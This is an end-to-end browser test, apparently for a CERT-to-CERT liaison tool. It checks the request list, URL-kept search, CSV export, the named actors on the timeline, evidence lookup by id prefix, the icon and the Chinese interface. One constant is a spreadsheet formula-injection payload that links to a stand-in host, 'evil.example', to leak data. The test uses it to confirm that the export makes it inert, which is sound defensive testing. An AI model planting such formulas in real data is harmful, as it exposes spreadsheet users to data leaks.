"""The requests list and evidence search in Chromium, as a liaison officer uses them: the sent
date and short id of each request, a search kept in the address, the CSV export a spreadsheet
opens safely, the person who acted on the timeline, evidence found by the start of its id (on
the new-request and the response form), and the node's icon."""

from __future__ import annotations

import csv
import io
import json
import re
from pathlib import Path

from playwright.sync_api import Browser, Page, expect
from tests.e2e.conftest import NodeDatabases, created, run_accord, serving
from tests.e2e.test_ui_browser import chromium  # noqa: F401  (the browser fixture)

US, CN = "United States (US-CERT)", "China (CNCERT/CC)"
SAKULA = "indicator--5a1c0b7e-2222-4a2b-9c3d-00000000e001"
HOSTILE = '=HYPERLINK("http://evil.example/?leak","Tianjin server logs")'


def sign_in(page: Page, base: str, token: str) -> None:
    page.goto(base + "ui/sign-in")
    page.locator("#token").fill(token)
    page.locator("#token").press("Enter")
    expect(page.locator("h1")).to_contain_text("Dashboard")


def file_request(page: Page, base: str, summary: str, find: str) -> str:
    """A request to China through the form, its evidence attached by searching `find`."""
    page.goto(base + "ui/requests/new")
    page.locator("#to").select_option(label=CN)
    page.locator("#summary").fill(summary)
    page.locator("#evidence-search").fill(find)
    page.locator("#evidence-results button").first.click()
    expect(page.locator("#evidence")).to_have_value(SAKULA)
    page.locator("#new-request button[type=submit]").click()
    expect(page.get_by_role("status")).to_contain_text("Request sent")
    return page.url.split("/ui/requests/")[1].split("?")[0]


def test_an_officer_finds_exports_and_answers_requests(databases: NodeDatabases, tmp_path: Path,
                                                        chromium: Browser):  # noqa: F811
    db = databases.new("node")
    created("init", "--party", US, db=db)
    created("party", "add", CN, db=db)
    smith = created("token", "create", "--party", US, "--role", "liaison", "--name",
                    "Officer Smith", db=db)
    wang = created("token", "create", "--party", CN, "--role", "liaison", "--name",
                   "Officer Wang", db=db)
    bundle = tmp_path / "evidence.json"
    bundle.write_text(json.dumps({"type": "bundle", "id": "bundle--1", "objects": [{
        "type": "indicator", "spec_version": "2.1", "id": SAKULA,
        "created": "2015-06-04T10:00:00.000Z", "modified": "2015-06-04T10:00:00.000Z",
        "name": "Sakula C2 used against OPM", "pattern": "[ipv4-addr:value = '198.51.100.7']",
        "pattern_type": "stix", "valid_from": "2015-06-04T10:00:00Z"}]}))
    assert run_accord("import", str(bundle), "--collection", "evidence", db=db).returncode == 0
    assert run_accord("collection", "grant", "evidence", "--party", CN, "--read",
                      db=db).returncode == 0
    with serving(db, tmp_path / "node.log") as url:
        context = chromium.new_context(viewport={"width": 1366, "height": 900},
                                       accept_downloads=True)
        us = context.new_page()
        sign_in(us, url, smith)
        # Evidence found by the start of its id: a type and 4 digits, or 8 digits alone.
        first = file_request(us, url, "Who operates 198.51.100.7?", "indicator--5a1c")
        second = file_request(us, url, HOSTILE, "5a1c0b7e")

        # The list: when each was sent and its short id; a search kept in the address.
        us.goto(url + "ui/requests")
        table = us.locator("table.list")
        expect(table.locator("thead")).to_contain_text("Sent")
        expect(table.locator("thead")).to_contain_text("Id")
        short = first.rpartition("--")[2][:8]
        expect(table.locator("code.rid", has_text=short)).to_be_visible()
        expect(table.locator("tbody tr").first.locator("time").last).to_contain_text(
            re.compile(r"\d\d:\d\d"))
        us.locator("#f-q").fill("tianjin")
        us.locator("#f-q").press("Enter")
        expect(us).to_have_url(re.compile(r"[?&]q=tianjin"))
        expect(table.locator("tbody tr")).to_have_count(1)
        expect(table).to_contain_text("Tianjin server logs")
        us.reload()
        expect(us.locator("#f-q")).to_have_value("tianjin")
        us.locator("#f-q").fill(short)
        us.locator("#f-q").press("Enter")
        expect(table.locator("tbody tr")).to_have_count(1)
        expect(table).to_contain_text("Who operates 198.51.100.7?")

        # The export: exactly the listed rows, the formula made inert, UTF-8 with a BOM.
        us.goto(url + "ui/requests?q=tianjin")
        with us.expect_download() as downloading:
            us.get_by_role("link", name=re.compile("spreadsheet")).click()
        data = Path(downloading.value.path()).read_bytes()
        assert data.startswith(b"\xef\xbb\xbf")
        rows = list(csv.reader(io.StringIO(data.decode("utf-8-sig"))))
        assert [r[0] for r in rows[1:]] == [second]
        assert rows[1][5] == "'" + HOSTILE

        # China's officer answers, returning evidence found by the start of its id.
        cn = chromium.new_context(viewport={"width": 1366, "height": 900}).new_page()
        sign_in(cn, url, wang)
        cn.goto(f"{url}ui/requests/{first}")
        cn.locator("#respond-find").fill("5a1c0b7e")
        cn.locator("#respond-found button").first.click()
        expect(cn.locator("#respond-evidence")).to_have_value(SAKULA)
        cn.locator("input[name=outcome][value=information-provided]").check()
        cn.locator("#respond-text").fill("A hosting provider in Tianjin.")
        cn.locator("form[action$='/respond'] button[type=submit]").click()
        expect(cn.get_by_role("status")).to_contain_text("Response sent")
        # The timeline names the person who acted, on both sides.
        timeline = cn.locator("ol.timeline")
        expect(timeline.locator(".event-created")).to_contain_text("(Officer Smith)")
        expect(timeline.locator(".event-responded")).to_contain_text("(Officer Wang)")

        # The icon: linked from every page, and at /favicon.ico for what asks there.
        icon = us.locator("link[rel=icon]").get_attribute("href")
        assert us.request.get(url.rstrip("/") + icon).headers["content-type"].startswith(
            "image/svg+xml")
        got = us.request.get(url + "favicon.ico")
        assert got.status == 200 and got.headers["content-type"] == "image/x-icon"
        assert got.body()[:4] == b"\x00\x00\x01\x00"  # an ICO file

        # In Chinese, what this adds reads in Chinese.
        us.goto(url + "ui/requests")
        us.locator("form.language button[value=zh-Hans]").click()
        expect(us.locator("label[for=f-q]")).to_have_text("关键词或 ID")
        expect(us.get_by_role("link", name=re.compile("电子表格"))).to_be_visible()
        context.close()
